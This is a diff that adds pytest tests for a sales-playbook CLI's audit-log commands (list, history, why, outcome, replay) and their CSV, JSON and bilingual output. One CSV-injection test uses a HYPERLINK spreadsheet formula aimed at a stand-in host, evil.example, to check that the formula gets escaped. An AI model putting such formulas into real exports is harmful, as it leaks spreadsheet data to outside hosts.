@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import random
+import re
 import subprocess
 import sys
 from collections import Counter
@@ -17,6 +20,7 @@ from cli import main
 from tests.conftest import FIXTURES, ROOT
 
 PIPELINE = str(FIXTURES / "pipeline.yaml")
+MAVEN_PIPELINE = ROOT.parent / "shared" / "crm-data" / "maven-crm-sales-opportunities" / "sales_pipeline.csv"
 CASES = [
     '{"id": "a", "opportunity": {"weeks_to_close": 1, "win_rate": 80}, "account": {"segment": "retail"}}',
     '{"id": "b", "opportunity": {"close_date": "2027-03-01", "milestones": ["a"]}}',
@@ -228,8 +232,8 @@ def test_the_audit_log_commands_end_to_end(tmp_path: Path) -> None:
     )
     code, out, _ = invoke("replay", "--playbook", str(changed), "--db", db, "--format", "json")
     report = json.loads(out)
-    assert code == 0 and report["evaluated"] == 41 and report["changed"] > 0
-    assert "fight_blitz" in report["actions_removed"]
+    assert code == 0 and report["replayed"] == 41 and report["changed"] > 0
+    assert "fight_blitz" in [entry["action"] for entry in report["actions_removed"]]
 
 
 def test_summary_format_prints_the_counts_and_stores_everything(tmp_path: Path) -> None:
@@ -272,3 +276,310 @@ def test_options_come_from_playbook_environment_variables(cases_file: Path) -> N
     # an option on the command line wins over the environment
     result = CliRunner(env=env).invoke(main, [*args, "--lang", "zh"])
     assert json.loads(result.stdout.splitlines()[0])["recommendations"][0]["label"] == "积极跟进"
+
+
+def stored_log(tmp_path: Path, *lines: str) -> str:
+    """An audit log holding these JSON Lines cases, evaluated under the pipeline fixture."""
+    db = f"sqlite:///{tmp_path / 'log.db'}"
+    source = tmp_path / "stored.jsonl"
+    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    code, _, err = invoke(
+        "recommend", "--playbook", PIPELINE, "--input", str(source), "--as-of", "2026-11-27", "--db", db
+    )
+    assert code == 0, err
+    return db
+
+
+def test_list_and_history_carry_outcomes_and_the_playbook_in_every_format(tmp_path: Path) -> None:
+    from engine import load_playbook
+
+    content_hash = load_playbook(PIPELINE).content_hash
+    hot = {"opportunity": {"id": "opp-1", "weeks_to_close": 1, "win_rate": 80}, "account": {"id": "acc-1"}}
+    db = stored_log(tmp_path, json.dumps(hot), '{"opportunity": {"id": "opp-9", "weeks_to_close": 9}}')
+    code, out, err = invoke(
+        "outcome", "1", "follow_up", "--status", "accepted", "--who", "li.wei", "--why", "met the buyer", "--db", db
+    )
+    assert code == 0, err
+
+    code, out, _ = invoke("history", "opp-1", "--db", db)
+    assert code == 0
+    head, outcome_line = out.splitlines()
+    assert f"playbook pipeline 1 ({content_hash[:12]})" in head
+    assert "follow_up accepted by li.wei at 20" in outcome_line and outcome_line.endswith(" UTC: met the buyer")
+
+    code, out, _ = invoke("list", "--db", db)
+    assert code == 0 and "None" not in out  # the second case has no account: nothing says "account None"
+    assert "account" not in out.splitlines()[-1]
+
+    code, out, _ = invoke("list", "--db", db, "--format", "json")
+    first = json.loads(out.splitlines()[0])
+    assert first["playbook"] == {"id": "pipeline", "version": "1", "hash": content_hash}
+    [done] = first["outcomes"]
+    assert (done["action"], done["status"], done["who"], done["why"]) == (
+        "follow_up",
+        "accepted",
+        "li.wei",
+        "met the buyer",
+    )
+    assert done["at"].startswith("20")
+
+    code, out, _ = invoke("list", "--db", db, "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert [(r["playbook_id"], r["playbook_version"], r["playbook_hash"]) for r in rows] == [
+        ("pipeline", "1", content_hash)
+    ] * 2
+    assert rows[0]["outcomes"].startswith("follow_up accepted by li.wei at ") and rows[1]["outcomes"] == ""
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_escaped(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    case = {"id": formula, "opportunity": {"id": "+1", "account_id": "@acc", "weeks_to_close": 1, "win_rate": 80}}
+    db = stored_log(tmp_path, json.dumps(case))
+    code, out, _ = invoke("list", "--db", db, "--format", "csv")
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    assert code == 0
+    assert (row["case"], row["record_id"], row["account_id"]) == ("'" + formula, "'+1", "'@acc")
+    # JSON is data, not a spreadsheet: it keeps the ids as they are
+    code, out, _ = invoke("list", "--db", db, "--format", "json")
+    assert json.loads(out)["case"] == formula
+
+
+@pytest.fixture
+def sample_log(tmp_path: Path) -> str:
+    """The sample cases stored twice: as of 2026-11-27 (evaluations 1-41) and 2026-12-20 (42-82)."""
+    db = f"sqlite:///{tmp_path / 'log.db'}"
+    samples = str(ROOT / "samples" / "cases.jsonl")
+    for as_of in ("2026-11-27", "2026-12-20"):
+        code, _, err = invoke("recommend", "--input", samples, "--as-of", as_of, "--format", "summary", "--db", db)
+        assert code == 0, err
+    return db
+
+
+def test_why_record_action_says_why_under_which_playbook_and_what_became_of_it(sample_log: str) -> None:
+    from engine import load_playbook
+
+    content_hash = load_playbook(ROOT / "playbooks" / "course.yaml").content_hash
+    db = sample_log
+    code, _, err = invoke(
+        "outcome", "1", "intensive_attack", "--status", "accepted", "--who", "li.wei", "--why", "A project", "--db", db
+    )
+    assert code == 0, err
+    code, en, _ = invoke(
+        "why", "--record", "opp-001", "--action", "intensive_attack", "--on", "2026-12-01", "--db", db, "--lang", "en"
+    )
+    assert code == 0
+    assert en.startswith("evaluation #1, as of 2026-11-27")
+    assert f"playbook course version 1.0.0, content hash {content_hash}" in en
+    # the steps that led to the action, with their course sources, and no others
+    assert "rule director_intensive_attack" in en and "[G-19" in en and "funnel layer = bottom" in en
+    assert "rule battle_blitz" not in en and "market division" not in en
+    assert en.splitlines()[-2:] == [
+        "Outcomes:",
+        en.splitlines()[-1],
+    ] and en.splitlines()[-1].startswith("  intensive_attack accepted by li.wei at ")
+    assert en.endswith(" UTC: A project\n")
+
+    code, zh, _ = invoke("why", "--record", "opp-001", "--action", "intensive_attack", "--on", "2026-12-01", "--db", db)
+    assert code == 0
+    assert f"剧本 course 版本 1.0.0,内容哈希 {content_hash}" in zh and "规则 director_intensive_attack" in zh
+    assert "处理结果:" in zh and "已接受,li.wei," in zh and "理由:A project" in zh
+
+    # without --on: the latest evaluation (as of 2026-12-20), which has no outcome yet
+    code, latest, _ = invoke("why", "--record", "opp-001", "--action", "intensive_attack", "--db", db, "--lang", "en")
+    assert code == 0 and latest.startswith("evaluation #42, as of 2026-12-20")
+    assert latest.endswith("Outcomes:\n  (no outcome recorded yet)\n")
+    # before anything was evaluated
+    code, _, err = invoke(
+        "why", "--record", "opp-001", "--action", "intensive_attack", "--on", "2026-01-01", "--db", db
+    )
+    assert code == 1 and "no evaluation of record 'opp-001' on or before 2026-01-01" in err
+    code, _, err = invoke("why", "--record", "opp-001", "--action", "fight_blits", "--db", db)
+    assert code == 2 and "did you mean 'fight_blitz'" in err
+    assert invoke("why", "--record", "opp-001", "--db", db)[0] == 2  # --record needs --action
+    assert invoke("why", "1", "--record", "opp-001", "--action", "x", "--db", db)[0] == 2
+
+
+def test_why_record_names_the_last_evaluation_that_advised_an_action_no_longer_in_force(sample_log: str) -> None:
+    from engine.store import Store
+
+    store = Store(sample_log)
+    dropped = {}  # record -> (earlier evaluation, an action it advised that the later one does not)
+    for seq in range(1, 42):
+        earlier, later = store.get(seq), store.get(seq + 41)
+        gone = sorted({r["id"] for r in earlier.recommendations} - {r["id"] for r in later.recommendations})
+        if gone:
+            dropped[earlier.record_id] = (seq, gone[0])
+    store.close()
+    record, (seq, action) = sorted(dropped.items())[0]
+    code, out, err = invoke("why", "--record", record, "--action", action, "--db", sample_log, "--lang", "en")
+    assert code == 0
+    assert f"evaluation {seq + 41} (as of 2026-12-20), which did not advise '{action}'" in err
+    assert f"evaluation {seq} (as of 2026-11-27) did: playbook why {seq} --action {action}" in err
+    assert out.startswith(f"evaluation #{seq + 41}") and "why not" in out
+
+
+def test_why_narrowed_to_one_action(sample_log: str) -> None:
+    code, whole, _ = invoke("why", "1", "--db", sample_log, "--lang", "en")
+    code, narrow, _ = invoke("why", "1", "--action", "fight_blitz", "--db", sample_log, "--lang", "en")
+    assert code == 0
+    assert "rule battle_blitz" in narrow and "battle type = blitz" in narrow and "[G-22" in narrow
+    assert "rule divide_by_customer" in whole and "rule divide_by_customer" not in narrow
+    assert len(narrow.splitlines()) < len(whole.splitlines()) / 2
+    # an action this evaluation did not recommend: why not
+    code, out, _ = invoke("why", "1", "--action", "fight_siege", "--db", sample_log, "--lang", "en")
+    assert code == 0 and "why not" in out and "rule battle_siege" in out
+
+
+def test_an_action_recommended_by_several_rules_needs_its_rule_named(sample_log: str) -> None:
+    db = sample_log
+    # evaluation 2 (opp-002) recommends identify_decision_role through four rules
+    code, _, err = invoke("outcome", "2", "identify_decision_role", "--status", "done", "--who", "li.wei", "--db", db)
+    assert code == 1 and "4 times" in err and "find_role_decide:identify_decision_role" in err
+    code, _, err = invoke(
+        "outcome", "2", "find_role_decide:identify_decision_role", "--status", "done", "--who", "li.wei", "--db", db
+    )
+    assert code == 0, err
+    code, _, err = invoke(
+        "outcome",
+        "2",
+        "identify_decision_role",
+        "--rule",
+        "find_role_use",
+        "--status",
+        "dismissed",
+        "--who",
+        "li",
+        "--db",
+        db,
+    )
+    assert code == 0, err
+    code, _, err = invoke(
+        "outcome",
+        "2",
+        "identify_decision_role",
+        "--rule",
+        "battle_blitz",
+        "--status",
+        "done",
+        "--who",
+        "li",
+        "--db",
+        db,
+    )
+    assert code == 1 and "did not recommend 'identify_decision_role' by rule 'battle_blitz'" in err
+    code, out, _ = invoke("history", "opp-002", "--db", db)
+    assert "outcome: find_role_decide:identify_decision_role done by li.wei" in out
+    assert "outcome: find_role_use:identify_decision_role dismissed by li" in out
+
+
+def test_an_outcome_for_an_evaluation_that_does_not_exist_says_so(sample_log: str) -> None:
+    code, _, err = invoke("outcome", "999", "fight_blitz", "--status", "done", "--who", "li", "--db", sample_log)
+    assert code == 1 and "there is no evaluation 999 in the audit log" in err
+
+
+def test_a_bad_date_names_its_option(sample_log: str) -> None:
+    for option in ("--since", "--until"):
+        code, _, err = invoke("list", option, "2026-13-01", "--db", sample_log)
+        assert code == 2 and f"Invalid value for {option}" in err
+
+
+def test_check_prints_each_problem_once(tmp_path: Path) -> None:
+    broken = tmp_path / "broken.yaml"
+    broken.write_text(
+        (FIXTURES / "pipeline.yaml").read_text(encoding="utf-8").replace("then: middle", "then: midle"),
+        encoding="utf-8",
+    )
+    code, out, _ = invoke("check", str(broken), str(broken))
+    assert code == 1
+    lines = out.splitlines()
+    assert len(lines) == len(set(lines)) == 1 and "unknown_value" in lines[0]
+
+
+def test_replay_reports_counts_labels_and_examples_in_the_chosen_language(sample_log: str, tmp_path: Path) -> None:
+    course = (ROOT / "playbooks" / "course.yaml").read_text(encoding="utf-8")
+    changed = tmp_path / "changed.yaml"
+    changed.write_text(
+        course.replace("  high_win_rate:\n    value: 60\n", "  high_win_rate:\n    value: 80\n"), encoding="utf-8"
+    )
+    code, out, err = invoke(
+        "replay", "--playbook", str(changed), "--db", sample_log, "--format", "json", "--lang", "en"
+    )
+    assert code == 0, err
+    report = json.loads(out)
+    # each record once, as it stands now (the samples were stored as of two dates), against the live playbook
+    assert report["replayed"] == 41 and report["as_of"] == {"from": "2026-12-20", "to": "2026-12-20"}
+    assert report["baseline"]["from"] == {"evaluation": 82} and report["baseline"]["version"] == "1.0.0"
+    blitz = next(entry for entry in report["actions_removed"] if entry["action"] == "fight_blitz")
+    assert blitz["label"].startswith("blitz") and 0 < blitz["records"] <= report["changed"]
+    assert blitz["examples"] and all(e.startswith("opp-") for e in blitz["examples"])
+    move = next(m for m in report["decisions_changed"] if m["decision"] == "battle_type" and m["from"] == "blitz")
+    assert move["label"] == "battle type" and move["records"] == blitz["records"]
+    assert report["unchanged"] == 41 - report["changed"]
+
+    code, every, _ = invoke("replay", "--playbook", str(changed), "--db", sample_log, "--format", "json", "--all")
+    assert json.loads(every)["replayed"] == 82
+
+    code, en, _ = invoke("replay", "--playbook", str(changed), "--db", sample_log, "--lang", "en")
+    assert code == 0
+    assert en.startswith("replay: 41 evaluations (the latest of each record, as of 2026-12-20 to 2026-12-20)")
+    assert f"{report['changed']} would change, {report['unchanged']} unchanged" in en
+    assert f"battle type: {move['from_label']} → {move['to_label']}: {move['records']} records" in en
+    assert "['" not in en and "fight_blitz" not in en  # labels, not ids or Python lists
+    code, zh, _ = invoke("replay", "--playbook", str(changed), "--db", sample_log)
+    assert code == 0 and zh.startswith("回放:41 次评估") and "竞争战法:" in zh and "['" not in zh
+
+    code, same, _ = invoke(
+        "replay", "--playbook", str(ROOT / "playbooks" / "course.yaml"), "--db", sample_log, "--lang", "en"
+    )
+    assert code == 0 and "the new playbook is the one live now" in same
+    code, against, _ = invoke(
+        "replay",
+        "--playbook",
+        str(ROOT / "playbooks" / "course.yaml"),
+        "--baseline",
+        str(changed),
+        "--db",
+        sample_log,
+        "--format",
+        "json",
+    )
+    assert json.loads(against)["changed"] == report["changed"]  # the same change, seen from the other side
+    empty = f"sqlite:///{tmp_path / 'empty.db'}"
+    code, _, err = invoke("replay", "--playbook", str(changed), "--db", empty)
+    assert code == 1 and "holds no evaluation" in err
+
+
+def readme_summary(start: str) -> re.Pattern[str]:
+    """The README's quoted summary line that starts with ``start``, as a pattern: N, R, E, Q any number, … anything."""
+    quoted = [
+        q for q in re.findall(r"`([^`\n]+)`", (ROOT / "README.md").read_text(encoding="utf-8")) if q.startswith(start)
+    ]
+    assert quoted, f"the README quotes no summary line starting {start!r}"
+    pattern = re.escape(quoted[0]).replace("…", ".+?")
+    return re.compile(re.sub(r"\b[NREQ]\b", r"\\d+", pattern))
+
+
+def test_the_readme_summary_lines_are_what_the_program_prints(cases_file: Path) -> None:
+    code, _, err = invoke("recommend", "--playbook", PIPELINE, "--input", str(cases_file), "--as-of", "2026-11-27")
+    assert code == 0
+    assert readme_summary("N rows: N cases evaluated").fullmatch(err.strip()), err
+
+
+@pytest.mark.skipif(not MAVEN_PIPELINE.is_file(), reason=f"the Maven sample set is not at {MAVEN_PIPELINE}")
+def test_the_readme_summary_of_an_export_with_quarantined_rows(tmp_path: Path) -> None:
+    code, _, err = invoke(
+        "recommend",
+        "--input",
+        str(MAVEN_PIPELINE),
+        "--mapping",
+        "maven",
+        "--as-of",
+        "2017-03-01",
+        "--format",
+        "summary",
+        "--db",
+        f"sqlite:///{tmp_path / 'log.db'}",
+    )
+    assert code == 0
+    summary = err.strip().split("; stored in")[0]
+    assert readme_summary("N rows: E cases evaluated (…), Q quarantined").fullmatch(summary), summary
